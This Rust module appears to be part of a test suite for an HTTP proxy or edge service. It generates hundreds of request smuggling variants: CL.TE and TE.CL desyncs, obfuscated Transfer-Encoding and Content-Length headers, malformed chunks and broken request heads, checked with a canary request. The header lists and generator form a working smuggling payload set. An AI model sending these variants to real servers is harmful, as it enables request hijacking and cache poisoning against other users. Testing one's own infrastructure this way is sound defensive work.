//! The known ways to hide one request in another, each as bytes. The hidden one, the poison, is where a
//! reader of RFC 9112 finds no request: in a body, in a header, or behind what ends its connection.

use crate::talk::Talk;

/// One way.
#[derive(Debug, Clone)]
pub struct Variant {
    pub name: String,
    pub bytes: Vec<u8>,
    /// By the RFC the poison is a request of its own, too: only proxy and server may differ on it.
    pub may_count: bool,
}

/// What the bytes are made for.
#[derive(Debug, Clone)]
pub struct Aim {
    /// A target that takes a body.
    pub post: String,
    /// Targets that take none.
    pub get: Vec<String>,
    /// The request line of the poison; without its end.
    pub poison: String,
}

/// Whole; or open, so that the next on the connection becomes one of its headers.
const ENDS: [(&str, &str); 2] =
    [("whole", " HTTP/1.1\r\nHost: x\r\n\r\n"), ("open", " HTTP/1.1\r\nX: ")];

/// `Transfer-Encoding: chunked` as some read it and others do not; whether it is one by its name at all.
const CODINGS: &[(&str, bool)] = &[
    ("Transfer-Encoding: chunked", true),
    ("transfer-encoding: CHUNKED", true),
    ("Transfer-Encoding: chunked ", true),
    ("Transfer-Encoding:\tchunked", true),
    ("Transfer-Encoding:chunked", true),
    ("Transfer-Encoding : chunked", true),
    ("Transfer-Encoding\t: chunked", true),
    (" Transfer-Encoding: chunked", true),
    ("Transfer-Encoding: xchunked", true),
    ("Transfer-Encoding: chunkedx", true),
    ("Transfer-Encoding: x chunked", true),
    ("Transfer-Encoding: identity, chunked", true),
    ("Transfer-Encoding: chunked, identity", true),
    ("Transfer-Encoding: gzip, chunked", true),
    ("Transfer-Encoding: chunked, chunked", true),
    ("Transfer-Encoding: chunked,", true),
    ("Transfer-Encoding: ,chunked", true),
    ("Transfer-Encoding: identity", true),
    ("Transfer-Encoding: cow", true),
    ("Transfer-Encoding: \"chunked\"", true),
    ("Transfer-Encoding: 'chunked'", true),
    ("Transfer-Encoding: chunked;q=1", true),
    ("Transfer-Encoding:", true),
    ("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", true),
    ("Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", true),
    ("Transfer-Encoding: chunked\r\nTransfer-Encoding: x", true),
    ("Transfer-Encoding: x\r\nTransfer-Encoding: chunked", true),
    ("Transfer-Encoding:\r\n chunked", true),
    ("Transfer-Encoding:\n chunked", true),
    ("X: y\r\n Transfer-Encoding: chunked", false),
    ("X: y\nTransfer-Encoding: chunked", true),
    ("X: y\rTransfer-Encoding: chunked", true),
    ("X: y\0Transfer-Encoding: chunked", true),
    ("Transfer-Encoding: chun\0ked", true),
    ("Transfer-Encoding: \x0bchunked", true),
    ("Transfer-Encoding: \x0cchunked", true),
    ("Transfer-Encoding: chunked\x0b", true),
    ("Transfer-Encoding: chunked\r", true),
    ("Transfer-\r\nEncoding: chunked", true),
    ("\0Transfer-Encoding: chunked", true),
    ("Transfer-Encoding\0: chunked", true),
    ("Transfer_Encoding: chunked", false),
    ("TransferEncoding: chunked", false),
    ("X-Transfer-Encoding: chunked", false),
    ("Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked", true),
    ("Connection: Content-Length\r\nTransfer-Encoding: chunked", true),
    ("Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked", true),
    ("Transfer-Encoding: \u{131}dentity, chun\u{212a}ed", true),
];

/// `Content-Length` of something, as some read it and others do not: `#` is the length.
const LENGTHS: &[&str] = &[
    "Content-Length: #\r\nContent-Length: 0",
    "Content-Length: 0\r\nContent-Length: #",
    "Content-Length: #\r\nContent-Length: #",
    "Content-Length: #, #",
    "Content-Length: 0, #",
    "Content-Length: #, 0",
    "Content-Length: +#",
    "Content-Length: -#",
    "Content-Length: 0#",
    "Content-Length: 0x#",
    "Content-Length: #.0",
    "Content-Length: #e0",
    "Content-Length: #;",
    "Content-Length: \"#\"",
    "Content-Length: # 0",
    "Content-Length: 0 #",
    "Content-Length: #\0",
    "Content-Length:\x0b#",
    "Content-Length : #",
    "Content-Length\t: #",
    " Content-Length: #",
    "Content-Length:\r\n #",
    "Content-Length: 0\r\n #",
    "X: y\nContent-Length: #",
    "X: y\rContent-Length: #",
    "Content-Length: #\r\nContent-Length: 1#",
    "Content-Length: 1844674407370955161#",
    "Content-Length:",
    "Content-Length: #\r\nConnection: Content-Length",
    "Connection: close, Content-Length\r\nContent-Length: #",
    "Expect: 100-continue\r\nContent-Length: #",
    "Expect: 100-Continue\r\nExpect: x\r\nContent-Length: #",
    "Expect: x\r\nContent-Length: #",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nContent-Length: #",
    "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nContent-Length: #",
];

/// Chunks in which another reader finds an end: `@` is the poison, `#` its length in hex.
const CHUNKS: &[&str] = &[
    "2;\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2;a=\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2;a=\"\n\"\r\nxx\r\n0\r\n\r\n",
    "2;a=\rxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2;a\r\nxx\r\n#;b\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2\rxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2 \r\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    " 2\r\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "0x2\r\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "+2\r\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "-2\r\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2_\r\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "10000000000000002\r\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "fffffffffffffffff\r\nxx\r\n0\r\n\r\n@",
    "ffffffffffffffff\r\nxx\r\n0\r\n\r\n@",
    "7fffffffffffffff\r\nxx\r\n0\r\n\r\n@",
    "00000000000000000000002\r\nxx\r\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2\r\nxx\n#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2\r\nxxZZ#\r\n0\r\n\r\n@\r\n0\r\n\r\n",
    "2\r\nxxx\r\n0\r\n\r\n@",
    "\r\n0\r\n\r\n@",
    "\n0\r\n\r\n@",
    "g\r\n0\r\n\r\n@",
    ";\r\n0\r\n\r\n@",
    "0;a=b\nX: @",
    "0\r\nX: y\r\n z: @",
    "0\r\nContent-Length: #\r\n\0\r\n\r\n@",
    "0 @",
    "0\r@",
    "0\r\n@",
];

/// Heads that are none, behind which a connection has no further request: `@` is the poison.
const BROKEN: &[&str] = &[
    "GET\r\n\r\n@",
    "GET /\r\n\r\n@",
    "GET / HTTP/9.9\r\n\r\n@",
    "GET / HTTP/1.1\r\n: x\r\n\r\n@",
    "GET / HTTP/1.1\r\nno colon\r\n\r\n@",
    "GET / HTTP/1.1\r\nX\0: y\r\n\r\n@",
    "GET / HTTP/1.1\r\nX: \0\r\n\r\n@",
    "GET / HTTP/1.1\r\n X: y\r\n\r\n@",
    "GET / HTTP/1.1\r\nX y: z\r\n\r\n@",
    "\0GET / HTTP/1.1\r\nHost: x\r\n\r\n@",
    "G\u{e9}T / HTTP/1.1\r\nHost: x\r\n\r\n@",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n@",
    "GET / HTTP/1.1 @",
    "GET /\0 HTTP/1.1\r\nHost: x\r\n\r\n@",
    "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n@",
    "POST / HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n@",
    "GET /?a=%0d%0a%0d%0a@ x HTTP/1.1\r\n\r\n",
    "GET /?a=%20HTTP/1.1%0d%0aX:%20 HTTP/1.1\r\nX: @",
];

/// Requests that are whole: what follows is a request by the RFC, and proxy and server must agree on it.
const SOUND: &[&str] = &[
    "GET /tag.js HTTP/1.1\r\nHost: x\r\n\r\n@",
    "\r\n\r\nGET /tag.js HTTP/1.1\r\nHost: x\r\n\r\n@",
    "\nGET /tag.js HTTP/1.1\nHost: x\n\n@",
    "GET /tag.js HTTP/1.1\nHost: x\n\n@",
    "GET /tag.js HTTP/1.1\r\nHost: x\r\nX: a\nb: c\r\n\r\n@",
    "GET http://other.example/tag.js HTTP/1.1\r\nHost: x\r\n\r\n@",
    "GET http://x/tag.js?a@b:c HTTP/1.1\r\nHost: other\r\n\r\n@",
    "GET //tag.js HTTP/1.1\r\nHost: x\r\n\r\n@",
    "GET /tag.js#/../c HTTP/1.1\r\nHost: x\r\n\r\n@",
    "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n@",
    "CONNECT x:80 HTTP/1.1\r\nHost: x\r\n\r\n@",
    "TRACE /tag.js HTTP/1.1\r\nHost: x\r\nMax-Forwards: 0\r\n\r\n@",
    "HEAD /tag.js HTTP/1.1\r\nHost: x\r\n\r\n@",
    "GET /tag.js HTTP/1.0\r\nConnection: keep-alive\r\nHost: x\r\n\r\n@",
    "GET /tag.js HTTP/1.1\r\nHost: x\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n\r\n@",
    "GET /tag.js HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\n\r\n@",
    "GET /tag.js HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\n\r\n@",
    "GET /tag.js HTTP/1.1\r\nHost: x\r\nConnection: X-Forwarded-For, Host, close\r\n\r\n@",
    "GET /tag.js HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n@",
    "GET /tag.js HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n@",
    "GET /tag.js HTTP/1.2\r\nHost: x\r\n\r\n@",
];

impl Aim {
    /// At an edge, with a click on a link as the poison; `way` is the beginning of its first sub id.
    pub fn at_edge(code: &str, (link, poison): (&str, &str), way: &str) -> Aim {
        Aim {
            post: format!("/t/{code}"),
            get: vec![
                format!("/t/{code}.gif?amount=1&id=outer"),
                format!("/c/{link}"),
                "/tag.js".to_owned(),
                "/nothing".to_owned(),
            ],
            poison: format!("GET /c/{poison}?s1={way}#"),
        }
    }
}

/// A request whose answer, and nobody else's, names it: a click on a link of a program whose page is
/// there.
pub fn canary(link: &str, name: &str) -> Vec<u8> {
    let url = format!("https%3A%2F%2Fshop.example%2F{name}");
    format!("GET /c/{link}?url={url} HTTP/1.1\r\nHost: x\r\n\r\n").into_bytes()
}

impl Variant {
    /// Whether the canary behind it was answered; if so, by its own answer and as the last one.
    pub fn judge(&self, talk: &Talk, canary: &str) -> bool {
        let (name, statuses) = (&self.name, talk.statuses());
        assert!(talk.closed, "{name}: left alone");
        assert!(
            statuses.iter().all(|status| *status < 500 && *status != 101),
            "{name}: {statuses:?}"
        );
        let expected = format!("https://shop.example/{canary}?");
        let places = talk.headers("location");
        let own = places.iter().filter(|place| place.starts_with(&expected)).count();
        let named = places.iter().filter(|place| place.contains("canary-")).count();
        assert!(named == own && own <= 1, "{name}: {places:?}");
        assert!(own == 0 || places.last().unwrap().starts_with(&expected), "{name}: {places:?}");
        own == 1
    }
}

/// All ways to an aim; the poison of each names its number.
pub fn all(aim: &Aim) -> Vec<Variant> {
    let mut made = Made { aim, variants: Vec::new() };
    for (end, rest) in ENDS {
        for (coding, is_one) in CODINGS {
            for length_first in [true, false] {
                made.coding(coding, *is_one, length_first, (end, rest));
            }
        }
        for length in LENGTHS {
            made.length(length, (end, rest));
        }
        for chunk in CHUNKS {
            let poison = made.poison(rest);
            let hex = format!("{:x}", poison.len() + 5);
            let body = chunk.replace('#', &hex).replace('@', &poison);
            let head = made.post("Transfer-Encoding: chunked");
            made.push(format!("{end} chunk {chunk:?}"), head + &body, false);
        }
        for (texts, what, may_count) in [(BROKEN, "broken", false), (SOUND, "sound", true)] {
            for text in texts {
                let poison = made.poison(rest);
                made.push(format!("{end} {what} {text:?}"), text.replace('@', &poison), may_count);
            }
        }
    }
    made.variants
}

struct Made<'a> {
    aim: &'a Aim,
    variants: Vec<Variant>,
}

impl Made<'_> {
    fn poison(&self, rest: &str) -> String {
        format!("{}{rest}", self.aim.poison.replace('#', &self.variants.len().to_string()))
    }

    fn post(&self, headers: &str) -> String {
        format!(
            "POST {} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n{headers}\r\n\r\n",
            self.aim.post
        )
    }

    fn push(&mut self, name: String, text: String, may_count: bool) {
        self.variants.push(Variant { name, bytes: text.into_bytes(), may_count });
    }

    /// CL.TE, where the length covers the poison, and TE.CL, where a chunk does.
    fn coding(
        &mut self,
        coding: &str,
        is_one: bool,
        length_first: bool,
        (end, rest): (&str, &str),
    ) {
        let both = |length: usize| match length_first {
            true => format!("Content-Length: {length}\r\n{coding}"),
            false => format!("{coding}\r\nContent-Length: {length}"),
        };
        let body = format!("0\r\n\r\n{}", self.poison(rest));
        let text = self.post(&both(body.len())) + &body;
        self.push(format!("{end} CL.TE {coding:?} {length_first}"), text, false);
        let poison = self.poison(rest);
        let size = format!("{:x}\r\n", poison.len());
        let text = format!("{}{size}{poison}\r\n0\r\n\r\n", self.post(&both(size.len())));
        self.push(format!("{end} TE.CL {coding:?} {length_first}"), text, !is_one);
    }

    /// A body that is there for one reader and not for the other, of requests that take one and that do not.
    fn length(&mut self, length: &str, (end, rest): (&str, &str)) {
        let targets = self.aim.get.iter().map(|target| ("GET", &**target));
        for (method, target) in targets.chain([("POST", &*self.aim.post), ("POST", "/tag.js")]) {
            let poison = self.poison(rest);
            let length = length.replace('#', &poison.len().to_string());
            let head = format!("{method} {target} HTTP/1.1\r\nHost: x\r\n{length}\r\n\r\n");
            self.push(format!("{end} {method} {target} {length:?}"), head + &poison, false);
        }
    }
}
